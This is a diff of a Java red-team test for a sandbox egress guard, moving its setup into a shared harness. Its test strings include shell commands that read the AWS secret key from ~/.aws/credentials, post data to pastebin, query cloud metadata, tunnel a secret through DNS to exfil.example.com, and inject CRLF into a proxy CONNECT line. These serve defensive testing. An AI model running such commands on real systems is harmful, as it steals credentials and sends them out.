@@ -4,20 +4,12 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.airlock.core.event.DenialEvent;
 import dev.airlock.core.event.DenialKind;
-import dev.airlock.proxy.EgressGuard;
-import dev.airlock.proxy.policy.GuardPolicy;
-import dev.airlock.proxy.policy.PolicyLoader;
-import dev.airlock.proxy.policy.SecretSource;
-import dev.airlock.proxy.tls.CertificateAuthority;
 import dev.airlock.sandbox.ExecResult;
 import dev.airlock.sandbox.SandboxPolicy;
 import dev.airlock.sandbox.SandboxSession;
 import dev.airlock.sandbox.SessionEvent;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.time.Duration;
-import java.util.Map;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -30,47 +22,30 @@ import org.junit.jupiter.api.Test;
  */
 class GuardedSandboxRedTeamTest {
     private static Path dir;
+    private static GuardRedTeam harness;
     private static LoopbackUpstream upstream;
-    private static final StrictResolver RESOLVER = new StrictResolver().map("api.test");
-    private static final LoopbackOnlyConnector CONNECTOR = new LoopbackOnlyConnector();
-    private static final GuardedSandboxes WIRING = new GuardedSandboxes();
-    private static EgressGuard guard;
+    private static StrictResolver resolver;
+    private static LoopbackOnlyConnector connector;
+    private static GuardedSandboxes wiring;
     private static SandboxSession session;
     private static String api;
-    private static final java.util.concurrent.atomic.AtomicReference<GuardPolicy> POLICY =
-            new java.util.concurrent.atomic.AtomicReference<>();
 
     @BeforeAll
     static void start() throws Exception {
         dir = Files.createTempDirectory("airlock-it-");
-        CertificateAuthority ca = CertificateAuthority.loadOrCreate(dir.resolve("ca"));
-        CertificateAuthority upstreamCa = CertificateAuthority.loadOrCreate(dir.resolve("upstream-ca"));
-        upstream = new LoopbackUpstream(upstreamCa.serverContext("api.test"));
-        String json = """
-                {"allow": ["api.test"], "ports": [%d], "testOnlyAllowLoopbackUpstream": true}
-                """.formatted(upstream.port());
-        GuardPolicy policy = new PolicyLoader(SecretSource.of(Map.of()))
-                .parse(json.getBytes(StandardCharsets.UTF_8), "test").defaults();
-        guard = EgressGuard.builder().ca(ca).defaults(policy)
-                .resolver(RESOLVER).connector(CONNECTOR).upstreamTrust(upstreamCa.certificate())
-                .denials(WIRING).eventLoopThreads(1).requestTimeout(Duration.ofSeconds(5)).build().start();
-        WIRING.attach(guard, dir.resolve("ca").resolve(CertificateAuthority.CERT_FILE), dir);
-        Path ws = Files.createDirectories(dir.resolve("ws"));
-        session = WIRING.open(SandboxPolicy.defaults(), ws, policy);
-        POLICY.set(policy);
-        api = "https://api.test:" + upstream.port();
+        harness = GuardRedTeam.start(dir, SandboxPolicy.defaults());
+        upstream = harness.upstream();
+        resolver = harness.resolver();
+        connector = harness.connector();
+        wiring = harness.wiring();
+        session = harness.session();
+        api = harness.api();
     }
 
     @AfterAll
     static void stop() {
-        if (session != null) {
-            WIRING.close(session);
-        }
-        if (guard != null) {
-            guard.close();
-        }
-        if (upstream != null) {
-            upstream.close();
+        if (harness != null) {
+            harness.close();
         }
     }
 
@@ -102,9 +77,9 @@ class GuardedSandboxRedTeamTest {
             assertThat(d.summary()).doesNotContain(secret);
             assertThat(r.denials().toString()).doesNotContain(secret);
         }
-        assertThat(CONNECTOR.refusedNonLoopback).isEmpty();
-        assertThat(RESOLVER.unexpected).as("names the guard tried to resolve").isEmpty();
-        assertThat(WIRING.unrouted()).isEmpty();
+        assertThat(connector.refusedNonLoopback).isEmpty();
+        assertThat(resolver.unexpected).as("names the guard tried to resolve").isEmpty();
+        assertThat(wiring.unrouted()).isEmpty();
         return d;
     }
 
@@ -116,39 +91,39 @@ class GuardedSandboxRedTeamTest {
         assertThat(r.denials()).isEmpty();
         assertThat(upstream.received).hasSize(before + 1);
         assertThat(upstream.received.getLast().uri()).isEqualTo("/ok");
-        assertThat(CONNECTOR.dials).anyMatch(a -> a.getPort() == upstream.port());
+        assertThat(connector.dials).anyMatch(a -> a.getPort() == upstream.port());
     }
 
     @Test
     void denylistedHostIsRefusedBeforeResolution() throws Exception {
         int before = upstream.received.size();
-        int dials = CONNECTOR.dials.size();
+        int dials = connector.dials.size();
         DenialEvent https = assertDenied(sh("curl -sS --fail -m 10 https://pastebin.com/"), before, "pastebin.com");
         assertThat(https.summary()).startsWith("denied: CONNECT pastebin.com:443");
         assertDenied(sh("curl -sS --fail -m 10 -d x=1 http://pastebin.com/api/api_post.php"), before, "pastebin.com");
-        assertThat(RESOLVER.queries).doesNotContain("pastebin.com");
-        assertThat(CONNECTOR.dials).hasSize(dials);
+        assertThat(resolver.queries).doesNotContain("pastebin.com");
+        assertThat(connector.dials).hasSize(dials);
     }
 
     @Test
     void lookalikeHostsAreNotAllowed() throws Exception {
         int before = upstream.received.size();
-        int dials = CONNECTOR.dials.size();
+        int dials = connector.dials.size();
         for (String host : new String[]{"api.test.evil.test", "api-test.test", "xapi.test"}) {
             assertDenied(sh("curl -sS --fail -m 10 https://" + host + ":" + upstream.port() + "/ok"), before, host);
-            assertThat(RESOLVER.queries).doesNotContain(host);
+            assertThat(resolver.queries).doesNotContain(host);
         }
-        assertThat(CONNECTOR.dials).hasSize(dials);
+        assertThat(connector.dials).hasSize(dials);
     }
 
     @Test
     void metadataAndIpLiteralsAreRefusedWithoutADial() throws Exception {
         int before = upstream.received.size();
-        int dials = CONNECTOR.dials.size();
+        int dials = connector.dials.size();
         assertDenied(sh("curl -sS --fail -m 10 http://169.254.169.254/latest/meta-data/iam/"), before, "169.254.169.254");
         assertDenied(sh("curl -sS --fail -m 10 https://169.254.169.254/"), before, "169.254.169.254");
         assertDenied(sh("curl -sS --fail -m 10 https://127.0.0.1:" + upstream.port() + "/ok --noproxy ''"), before, "127.0.0.1");
-        assertThat(CONNECTOR.dials).hasSize(dials);
+        assertThat(connector.dials).hasSize(dials);
     }
 
     @Test
@@ -160,24 +135,24 @@ class GuardedSandboxRedTeamTest {
     @Test
     void sniThatDiffersFromTheConnectHostFailsTheHandshake() throws Exception {
         int before = upstream.received.size();
-        int dials = CONNECTOR.dials.size();
+        int dials = connector.dials.size();
         ExecResult r = sh("openssl s_client -proxy 127.0.0.1:" + GuardedSandboxes.BRIDGE_PORT + " -connect api.test:"
                 + upstream.port() + " -servername pastebin.com -CAfile $SSL_CERT_FILE -verify_return_error </dev/null");
         DenialEvent d = assertDenied(r, before, "api.test");
         assertThat(d.operation()).isEqualTo("CONNECT");
         assertThat(r.stdoutText()).contains("no peer certificate available").doesNotContain("BEGIN CERTIFICATE");
-        assertThat(CONNECTOR.dials).hasSize(dials);
+        assertThat(connector.dials).hasSize(dials);
     }
 
     @Test
     void aClosedSessionsSocketIsGoneAndTheGuardForgetsIt() throws Exception {
         Path ws = Files.createDirectories(dir.resolve("ws2"));
-        SandboxSession other = WIRING.open(SandboxPolicy.defaults(), ws, POLICY.get());
+        SandboxSession other = wiring.open(SandboxPolicy.defaults(), ws, harness.policy());
         Path socket = dir.resolve(other.id().value() + ".sock");
         assertThat(socket).exists();
         ExecResult ok = other.exec("curl", "-sS", "--fail", "-m", "10", api + "/second");
         assertThat(ok.stdoutText()).as(ok.stderrText()).isEqualTo("{\"ok\":true}");
-        WIRING.close(other);
+        wiring.close(other);
         assertThat(socket).doesNotExist();
         // The first session is untouched and still gets its own denials only.
         ExecResult r = sh("curl -sS --fail -m 10 https://pastebin.com/");
@@ -187,7 +162,7 @@ class GuardedSandboxRedTeamTest {
     @Test
     void bypassingTheGuardReachesNothing() throws Exception {
         int before = upstream.received.size();
-        int queries = RESOLVER.queries.size();
+        int queries = resolver.queries.size();
         // The upstream listens on the host's loopback; the sandbox's loopback is its own namespace.
         ExecResult direct = sh("curl -sS --fail -m 5 --noproxy '*' -k https://127.0.0.1:" + upstream.port() + "/direct");
         assertThat(direct.exitCode()).isNotZero();
@@ -198,22 +173,22 @@ class GuardedSandboxRedTeamTest {
         ExecResult dns = sh(SECRET + "getent hosts $K.exfil.example.com || echo unresolved");
         assertThat(dns.stdoutText().strip()).isEqualTo("unresolved");
         assertThat(upstream.received).hasSize(before);
-        assertThat(RESOLVER.queries).hasSize(queries);
+        assertThat(resolver.queries).hasSize(queries);
     }
 
     @Test
     void crLfInConnectHostIsRejected() throws Exception {
         int before = upstream.received.size();
-        int dials = CONNECTOR.dials.size();
+        int dials = connector.dials.size();
         ExecResult r = sh("exec 3<>/dev/tcp/127.0.0.1/" + GuardedSandboxes.BRIDGE_PORT
                 + "; printf 'CONNECT api.test\\rX-Injected: 1:" + upstream.port() + " HTTP/1.1\\r\\n\\r\\n' >&3; timeout 5 cat <&3");
         assertThat(r.stdoutText()).startsWith("HTTP/1.1 400");
         assertThat(upstream.received).hasSize(before);
-        assertThat(CONNECTOR.dials).hasSize(dials);
+        assertThat(connector.dials).hasSize(dials);
     }
 
     private static final String AWS = "aws_secret_access_key";
-    private static final String SECRET = "K=$(awk '/aws_secret_access_key/{print $3}' ~/.aws/credentials); test -n \"$K\" || exit 99; ";
+    private static final String SECRET = GuardRedTeam.SECRET;
 
     @Test
     void canaryInPathQueryAndHeaderIsBlocked() throws Exception {
